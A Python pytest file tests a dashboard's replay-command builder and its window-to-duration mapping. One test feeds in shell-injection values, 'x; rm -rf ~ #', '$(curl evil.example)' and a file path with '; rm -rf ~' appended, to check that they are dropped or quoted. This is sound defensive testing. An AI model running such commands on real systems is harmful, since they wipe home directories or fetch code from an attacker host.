"""The Policy impact page's pure pieces: the replay command and the window as a duration."""

from __future__ import annotations

import shlex

import pytest

from dashboard.data import WINDOWS, Decider, Window, replay_command


class TestWindowDuration:
    @pytest.mark.parametrize(
        ("label", "duration"),
        [
            ("Last 15 minutes", "15m"),
            ("Last hour", "1h"),
            ("Last 6 hours", "6h"),
            ("Last 24 hours", "24h"),
            ("Last 7 days", "7d"),
            ("Last 30 days", "30d"),
            ("All time", None),
        ],
    )
    def test_each_window_is_a_since_duration(self, label: str, duration: str | None) -> None:
        """Every window the sidebar offers has the `--since` duration of its length (none for all time)."""
        assert label in WINDOWS
        assert Window.named(label).duration() == duration


class TestReplayCommand:
    def test_a_policy_rule_replays_its_file_over_the_window_through_the_api(self) -> None:
        """A policy rule's command replays POLICY_FILE, reads the dashboard's API and covers the window."""
        rule = Decider("refunds", "stricter-refunds", calls=3, divergent=3)
        command = replay_command(rule, Window.named("Last 7 days"), api="http://127.0.0.1:8765")
        assert command == "callgate replay --policy POLICY_FILE --api http://127.0.0.1:8765 --since 7d"

    def test_an_interceptor_over_all_time_from_a_file(self) -> None:
        """An interceptor's command names MODULE:ATTR, the store file, and --since all for all time
        (a replay without --since takes the last 7 days)."""
        interceptor = Decider("frozen-tenants", None, calls=1, divergent=1)
        command = replay_command(interceptor, Window.named("All time"), db="/data/audit.duckdb")
        assert command == "callgate replay --interceptor MODULE:ATTR --db /data/audit.duckdb --since all"

    def test_nothing_from_an_event_reaches_the_shell(self) -> None:
        """A decider name written by an attacker is not in the command; a source with shell characters is quoted."""
        hostile = Decider("x; rm -rf ~ #", "$(curl evil.example)", calls=1, divergent=1)
        command = replay_command(hostile, Window.named("Last hour"), db="/tmp/my store; rm -rf ~.duckdb")
        assert "rm -rf ~ #" not in command
        assert "curl" not in command
        assert shlex.split(command) == [
            "callgate",
            "replay",
            "--policy",
            "POLICY_FILE",
            "--db",
            "/tmp/my store; rm -rf ~.duckdb",
            "--since",
            "1h",
        ]

    def test_a_decider_key_round_trips_any_name(self) -> None:
        """The widget key of a decider gives back its name and rule, whatever characters they hold."""
        decider = Decider('a / "b"', None, calls=0, divergent=0)
        assert Decider.parse_key(decider.key) == ('a / "b"', None)
        for bad in ("[1, 2]", "5", "not json"):
            with pytest.raises(ValueError, match="not a decider key"):
                Decider.parse_key(bad)
